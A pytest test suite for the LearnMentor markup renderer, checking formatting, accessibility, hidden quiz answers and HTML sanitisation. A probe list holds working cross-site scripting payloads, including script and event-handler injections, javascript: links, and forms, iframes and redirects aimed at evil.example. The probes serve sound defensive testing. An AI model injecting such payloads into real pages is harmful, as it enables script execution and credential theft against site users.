"""LearnMentor promises of what authors write: it is shown as they meant it, it cannot act, and answers never leak."""

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from learnmentor.markup import Context, LinkTarget, render, render_inner, typographic

SHA = "ab" * 32
CONTEXT = Context(
    citations={
        "LLUK": "/sources#lluk",
        "CUREE paper": "/sources#curee-paper",
        "CUREE seminars": "/sources#curee-seminars",
    },
    targets={"K8": LinkTarget("/cases/k8", "What stays in the room")},
    media={
        "media/rings.svg": f"/media/{SHA}/rings.svg",
        "media/talk.webm": f"/media/{SHA}/talk.webm",
        "media/talk.vtt": f"/media/{SHA}/talk.vtt",
    },
    kinds=("quiz", "sort", "conversation", "audit", "reflection", "practice"),
)


def html(source: str) -> str:
    return render(source, CONTEXT).html


def soup(source: str) -> BeautifulSoup:
    return BeautifulSoup(html(source), "html.parser")


def rules(source: str) -> list[tuple[str, int]]:
    return [(fault.rule, fault.line) for fault in render(source, CONTEXT).faults]


# what authors may write


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("**Bold** and *italic*.", "<p><strong>Bold</strong> and <em>italic</em>.</p>"),
        ('She said "no", didn\'t she...', "<p>She said “no”, didn’t she…</p>"),
        ('*"Quiet"*, he said.', "<p><em>“Quiet”</em>, he said.</p>"),
        ('`"code"` keeps its marks', '<p><code>"code"</code> keeps its marks</p>'),
        ("## Where to begin", '<h2 id="section-where-to-begin">Where to begin</h2>'),
        (
            "A fact [LLUK s.5].",
            '<p>A fact <span class="cites">[<a class="cite" href="/sources#lluk">LLUK s.5</a>]</span>.</p>',
        ),
        ("[[K8]]", '<p><a href="/cases/k8">What stays in the room</a></p>'),
        ("[[K8|the case]]", '<p><a href="/cases/k8">the case</a></p>'),
        ("Some [sic] words.", "<p>Some [sic] words.</p>"),
        ("Term\n:   Meaning", "<dl><dt>Term</dt><dd>Meaning</dd></dl>"),
        ("[privacy](/pages/privacy)", '<p><a href="/pages/privacy">privacy</a></p>'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
    ],
)
def test_the_format_is_shown_as_written(written: str, shown: str) -> None:
    assert html(written).strip() == shown


def test_several_citations_each_lead_to_their_source() -> None:
    links = soup("[LLUK s.5; CUREE paper; s.3]").find_all("a")
    assert [(a["href"], a.text) for a in links] == [
        ("/sources#lluk", "LLUK s.5"), ("/sources#curee-paper", "CUREE paper"), ("/sources#curee-paper", "s.3"),
    ]  # fmt: skip


def test_a_source_whose_name_begins_like_another_is_told_apart() -> None:
    assert soup("[CUREE seminars]").a["href"] == "/sources#curee-seminars"


@pytest.mark.parametrize("name", ["note", "try", "warning", "example"])
def test_asides_are_callouts_with_a_title(name: str) -> None:
    box = soup(f"/// {name} | Before Friday\nAsk *once* more.\n///").select_one(f"div.callout.callout--{name}")
    assert box is not None
    assert box.select_one(".callout__title").text == "Before Friday"
    assert box.em.text == "once"
    assert soup(f"/// {name}\nText.\n///").select_one(".callout__title").text.strip()


def test_details_fold_away() -> None:
    box = soup("/// details | What the picture says\nText.\n///").details
    assert box["class"] == ["disclosure"]
    assert box.summary.text == "What the picture says"
    assert not box.has_attr("open")


def test_tabs_in_a_row_become_one_set_that_works_without_a_script() -> None:
    page = soup("/// tab | In a college\nOne.\n///\n\n/// tab | In a prison\nTwo.\n///")
    assert len(page.select(".tabbed-set")) == 1
    inputs, labels = page.select("input[type=radio]"), page.select(".tabbed-labels label")
    assert [label["for"] for label in labels] == [each["id"] for each in inputs]
    assert inputs[0].has_attr("checked")
    assert page.select_one(".tabbed-set")["role"] == "group"


def test_a_scene_is_a_section_with_its_title() -> None:
    scene = soup(
        "/// scene | A first meeting\n*A staff room.*\n\n**Mentor:** So?\n\n> **Pause.** What now?\n///"
    ).section
    assert scene["class"] == ["scene"]
    assert scene.h3.text == "A first meeting"
    assert scene.blockquote.strong.text == "Pause."


def test_a_video_comes_with_captions_and_its_transcript() -> None:
    page = soup("/// video | A meeting\nsrc: media/talk.webm\ncaptions: media/talk.vtt\n---\n**Mentor:** Well?\n///")
    assert page.video["src"] == f"/media/{SHA}/talk.webm"
    assert page.track["kind"] == "captions"
    assert page.figcaption.text == "A meeting"
    assert page.details.summary.text == "Transcript"
    assert "Well?" in page.details.text


def test_an_audio_plays_nothing_until_asked() -> None:
    assert soup("/// audio | A voice\nsrc: media/talk.webm\n---\nWords.\n///").audio["preload"] == "none"


def test_a_picture_alone_on_its_line_is_a_figure() -> None:
    figure = soup('![Two rings](media/rings.svg "Our own drawing")').figure
    assert figure.img["src"] == f"/media/{SHA}/rings.svg"
    assert (figure.img["alt"], figure.figcaption.text) == ("Two rings", "Our own drawing")


def test_a_picture_that_is_not_there_is_not_asked_for() -> None:
    assert not soup("![Nothing](media/none.svg)").select("img[src]")


def test_task_lists_are_read_out() -> None:
    marks = soup("- [ ] Book a room\n- [x] Ask").select("ul.tasks span[role=img]")
    assert [mark["aria-label"] for mark in marks] == ["to do", "done"]


def test_tables_scroll_by_keyboard_and_have_a_name() -> None:
    frame = soup("| | Who | When |\n|---|---|--:|\n| a | b | c |").select_one(".table-scroll")
    assert (frame["tabindex"], frame["role"], frame["aria-label"]) == ("0", "region", "Table: Who, When")
    assert [th["scope"] for th in frame.find_all("th")] == ["col", "col"]
    assert not frame.find_all(style=True)


def test_footnotes_lead_there_and_back() -> None:
    page = soup("Ten of 16.[^1]\n\n[^1]: As printed.")
    assert page.select_one("sup a")["href"] == "#fn:1"
    assert page.select_one("li#fn\\:1 a")["href"] == "#fnref:1"


def test_sections_are_listed() -> None:
    assert render('## One\n\n### Deeper\n\n## Two "2"', CONTEXT).sections == (
        ("section-one", "One"),
        ("section-two-2", 'Two "2"'),
    )


def test_an_empty_text_has_no_sections_of_the_text_before_it() -> None:
    assert render("## One", CONTEXT).sections
    assert render("", CONTEXT).sections == ()


# activities


QUIZ = '```quiz id="q"\nWhy?\n- [ ] Wrong\n- [x] Right\n```'


def test_an_activity_leaves_a_mark_and_no_words() -> None:
    found = render(f"Before.\n\n{QUIZ}\n\nAfter.", CONTEXT)
    assert found.parts == ("<p>Before.</p>", 0, "<p>After.</p>")
    assert "Right" not in found.html
    assert [(fence.kind, fence.line) for fence in found.outline.fences] == [("quiz", 3)]


@pytest.mark.parametrize(
    "written",
    [
        '```quizz id="q"\nWhy?\n- [x] SECRET\n```',
        '```Quiz id="q"\nWhy?\n- [x] SECRET\n```',
        '```{.quiz id="q"}\nWhy?\n- [x] SECRET\n```',
        '``` quizid="q"\nWhy?\n- [x] SECRET\n```',
        "```\nWhy?\n- [x] SECRET\n```",
        "~~~ text\n- SECRET card => Mentor\n~~~",
        '    ```quiz id="q"\n    Why?\n    - [x] SECRET\n    ```',
        '> ```quiz id="q"\n> Why?\n> - [x] SECRET\n> ```',
        '- A list\n\n    ```quiz id="q"\n    - [x] SECRET\n    ```',
        "Text\n\n    Why?\n    - [x] SECRET\n",
        "```python\n- [x] SECRET\n```",
        '```quiz id="q"\nWhy?\n- [x] SECRET',
        '```quiz id="q"\nWhy?\n- [x] SECRET\n```quiz id="r"\nWhy?\n- [x] SECRET\n```',
        '/// note\n```quiz id="q"\nWhy?\n- [x] SECRET\n```\n///',
    ],
)
def test_a_mistyped_activity_is_refused_and_its_answers_never_shown(written: str) -> None:
    found = render(written, CONTEXT)
    assert found.faults
    assert found.faults[0].rule == "fence"
    assert found.faults[0].remedy
    assert "SECRET" not in found.html


@pytest.mark.parametrize("written", ['``quiz id="q"\n- [x] A\n``', 'quiz id="q"\n\n- [x] A', '"`sort id="q"\n'])
def test_an_activity_without_its_fence_is_refused(written: str) -> None:
    assert rules(written)[0] == ("fence", 1)


def test_plain_code_is_code() -> None:
    assert soup("```\nlearnmentor content check\n```").code.text.strip() == "learnmentor content check"
    assert not rules("```\nlearnmentor content check\n```")


@pytest.mark.parametrize(
    ("written", "line"),
    [
        ("Text\n\n/// nota\nWords.\n///", 3),
        ("/// note\nWords.", 1),
        ("Words.\n\n///", 3),
        ("//// note\n/// try\nA\n////\n///", 2),
    ],
)
def test_blocks_that_are_not_closed_or_not_known_are_named_with_their_line(written: str, line: int) -> None:
    assert ("block", line) in rules(written)


def test_lines_count_from_where_the_text_stands_in_its_file() -> None:
    context = Context(kinds=("quiz",), first_line=15)
    assert render("One\n\n```quizz\n```", context).faults[0].line == 17


# what nobody may write


PROBES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input type=password name=p></form>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div onclick='alert(1)' id='main' class='bar'>x</div>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/x.mp4 autoplay onplay=alert(1)></video>",
    "<object data=x></object><embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example';</style>",
    "![x](javascript:alert(1))",
    "<template><script>alert(1)</script></template>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<input type=text name=q value=x>",
    "/// note | <img src=x onerror=alert(1)>\nx\n///",
    "/// tab | <script>alert(1)</script>\nx\n///",
    "[[K8|<img src=x onerror=alert(1)>]]",
    '![x"onerror="alert(1)](media/rings.svg "a\'onload=\'x")',
    "\ue000activity0\ue001 <b onmouseover=x>y</b>",
]
_ALLOWED_SCHEMES = re.compile(r"(https?://|mailto:|/|#)")


def assert_harmless(shown: str) -> None:
    page = BeautifulSoup(shown, "html.parser")
    for tag in page.find_all(True):
        assert tag.name not in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "base",
            "meta",
            "template",
            "noscript",
        }
        for name, value in tag.attrs.items():
            assert not name.startswith("on"), shown
            assert name not in {"style", "srcdoc", "action", "formaction", "autoplay"}, shown
            if name in {"href", "src", "poster"}:
                assert _ALLOWED_SCHEMES.match(value), shown
                assert name == "href" or value.startswith("/media/"), shown
        if tag.name == "input":
            assert tag.get("type") == "radio"


@pytest.mark.parametrize("probe", PROBES)
def test_nothing_that_acts_gets_through(probe: str) -> None:
    assert_harmless(html(probe))
    assert_harmless(html(f"Before.\n\n/// details | x\n{probe}\n///\n\n| a |\n|---|\n| {probe.splitlines()[0]} |"))
    assert_harmless(render_inner(probe, CONTEXT))
    assert_harmless(render_inner(probe, CONTEXT, inline=True))
    assert "alert(1)</script>" not in html(probe)


@given(
    st.lists(
        st.sampled_from([*PROBES, '"', "'", "<", ">", "`", "\n", "[", "]", "(", "*", "a", "&lt;", "///", "> "]),
        max_size=8,
    )
)
def test_no_mixture_of_them_gets_through(parts: list[str]) -> None:
    assert_harmless(html("".join(parts)))
    assert_harmless(render_inner("".join(parts), CONTEXT, inline=True))


# texts inside activities


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("A plain card", "A plain card"),
        ("1. May is a month", "1. May is a month"),
        ("# not a heading", "# not a heading"),
        ("*Ask* first", "<em>Ask</em> first"),
        ('"Between us"', "“Between us”"),
        ("over\ntwo lines", "over two lines"),
        ("Look. [LLUK s.2]", 'Look. <span class="cites">[<a class="cite" href="/sources#lluk">LLUK s.2</a>]</span>'),
        ("5 < 6", "5 &lt; 6"),
    ],
)
def test_a_text_in_a_label_is_one_line_without_a_paragraph(written: str, shown: str) -> None:
    assert render_inner(written, CONTEXT, inline=True) == shown


def test_the_short_way_and_the_long_way_say_the_same() -> None:
    plain, marked = render_inner("Look there. [LLUK s.2]", CONTEXT), render_inner("Look *there*. [LLUK s.2]", CONTEXT)
    assert plain == marked.replace("<em>there</em>", "there")


def test_a_text_of_several_paragraphs_keeps_them() -> None:
    assert len(BeautifulSoup(render_inner("One.\n\nTwo.", CONTEXT), "html.parser").find_all("p")) == 2


@given(st.text(max_size=60))
def test_typographic_marks_lose_no_letter(text: str) -> None:
    def bare(words: str) -> str:
        return re.sub("[\"'“”‘’]", "", words.replace("...", "…"))

    assert bare(typographic(text)) == bare(text)
